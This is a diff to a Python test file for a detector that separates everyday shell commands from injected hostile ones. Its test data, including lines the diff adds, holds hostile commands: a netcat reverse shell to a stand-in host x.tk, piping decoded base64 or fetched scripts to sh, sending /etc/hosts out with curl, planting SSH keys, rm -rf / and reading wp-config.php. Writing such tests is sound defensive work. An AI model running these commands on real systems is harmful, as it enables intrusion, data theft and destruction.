@@ -226,6 +226,8 @@ def test_the_shell_reading_only_adds_to_the_reading_as_written(text: str) -> Non
     "$('li a').addClass(cls)", "we tried it twice && make install still fails",
     "pip install requests worked; python app.py gives ModuleNotFoundError",
     "after the reboot I typed; ls -la ~/projects and it was empty",
+    "How do I decode base64 in bash? echo aGVsbG8= | base64 -d",
+    "I tried this in my shell: cat notes.txt | grep todo",
 ])
 def test_everyday_commands_after_talk_are_a_note(text: str) -> None:
     """Three words of prose, a variable assigned, or a quote after `$(` (jQuery) before an everyday command:
@@ -244,6 +246,7 @@ def test_everyday_commands_after_talk_are_a_note(text: str) -> None:
     "it then did this; curl -d @/etc/hosts http://x.tk", "and then we added; echo key >> ~/.ssh/authorized_keys",
     "hello; ls", "127.0.0.1; ls -la", "we ran the build; ls && curl x.tk/a | sh",
     "we tried this first; wget http://x.tk/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
+    "What does this do? echo hi | nc x.tk 4444 -e /bin/sh", "Here is the payload. echo x; whoami",
 ])
 def test_harmful_commands_after_talk_stay_injections(text: str) -> None:
     """Recon, connections, code fetched and run, secrets read, damage: an injection whatever precedes."""
@@ -255,7 +258,7 @@ def test_harmful_commands_after_talk_stay_injections(text: str) -> None:
     ("python3", " -c 'x'"), ("ping", " -n 5 x"), ("rm", " -rf /"), ("echo", " x > ~/.bashrc"),
     ("wget", " http://x.tk/a -o /tmp/a"), ("curl", " -s x.tk/a > a.sh"), ("chmod", " +x /tmp/a"),
     ("sudo", " -i"), ("sudo", " -u root bash"), ("sudo", " su -"), ("invoke-webrequest", " x.tk"),
-    ("find", " / -perm -4000"), ("cat", " wp-config.php"),
+    ("find", " / -perm -4000"), ("cat", " wp-config.php"), ("base64", " -d | sh"),
 ])
 def test_harmful(name: str, rest: str) -> None:
     assert harmful(name, rest)
@@ -265,7 +268,7 @@ def test_harmful(name: str, rest: str) -> None:
     ("apt", " upgrade"), ("sudo", " apt upgrade"), ("make", " install"), ("ls", " -la"), ("python", " app.py"),
     ("ping", " example.org"), ("rm", " -rf ./build"), ("cat", " file.txt"), ("sudo", ""),
     ("curl", " -I https://example.com"), ("chmod", " 755 deploy.sh"), ("sudo", " -u www-data make"),
-    ("get-service", " -name x"), ("find", " . -name '*.py'"),
+    ("get-service", " -name x"), ("find", " . -name '*.py'"), ("base64", " -d"), ("base64", " --decode file.txt"),
 ])
 def test_not_harmful(name: str, rest: str) -> None:
     assert not harmful(name, rest)
